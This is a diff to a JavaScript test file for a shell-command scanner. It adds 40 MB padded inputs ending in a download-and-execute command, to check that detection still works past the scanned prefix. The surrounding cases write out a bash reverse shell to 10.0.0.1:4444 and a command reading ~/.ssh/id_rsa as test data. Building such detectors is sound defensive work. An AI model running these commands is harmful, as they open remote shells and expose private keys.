@@ -79,6 +79,9 @@ test('a command over 256 KB holding curl | sh, a decoder | sh, /dev/tcp or a pri
     [pad + 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse-shell'],
     [pad + 'cat ~/.ssh/id_rsa', 'credential-access'],
     ['cat | '.repeat(50_000) + CURL_SH, 'download-exec'],
+    // 40 MB: past the part scanned from the start, and past its token budget, it is at the end
+    ['cat | '.repeat(7_000_000) + CURL_SH, 'download-exec'],
+    ['ls;'.repeat(2_000_000) + CURL_SH, 'download-exec'],
   ];
   for (const [cmd, cap] of cases) {
     const v = shell(cmd);
